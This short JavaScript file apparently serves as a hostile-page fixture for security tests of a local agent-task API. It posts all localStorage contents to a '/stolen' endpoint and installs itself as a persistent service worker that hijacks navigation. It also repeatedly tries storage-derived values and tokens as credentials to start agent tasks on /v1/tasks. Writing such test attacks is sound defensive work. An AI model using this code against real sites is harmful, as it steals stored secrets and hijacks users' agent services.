// As a script of a page, and as a service worker: see squat.html.
"use strict";
if (typeof document === "undefined") {
	addEventListener("install", (event) => event.waitUntil(caches.open("evil").then((kept) => kept.addAll(["/", "/evil.js"])).then(() => skipWaiting())));
	addEventListener("activate", (event) => event.waitUntil(clients.claim()));
	addEventListener("fetch", (event) => {
		if (event.request.mode === "navigate") event.respondWith(caches.match("/"));
		if (event.request.url.endsWith("/evil.js")) event.respondWith(caches.match("/evil.js"));
	});
} else if (!window.answers) {
	window.evil = true;
	window.answers = []; // statuses of what was tried
	const key = Object.values(localStorage).join(" ").split(/[^A-Za-z0-9_-]+/);
	fetch("/stolen", { method: "POST", body: JSON.stringify({ ...localStorage }) }).catch(() => {});
	navigator.serviceWorker?.register("/evil.js").then(() => navigator.serviceWorker.ready).then(() => (window.stays = true));
	setInterval(() => {
		for (const one of ["", ...key]) {
			const headers = { "Content-Type": "application/json", "Stint-Page": one };
			const body = JSON.stringify({ prompt: "demo:say=stolen", agent: "demo", workspace: "/usr", verifyCommand: "true" });
			fetch("/v1/tasks", { method: "POST", headers, body }).then((answer) => window.answers.push(answer.status), () => {});
		}
		if (window.token) fetch("/v1/tasks", { cache: "no-store", headers: { Authorization: "Bearer " + window.token } }).then((answer) => window.answers.push(answer.status), () => {});
		fetch("/v1/tasks", { cache: "no-store" }).then((answer) => window.answers.push(answer.status), () => {});
	}, 200);
}
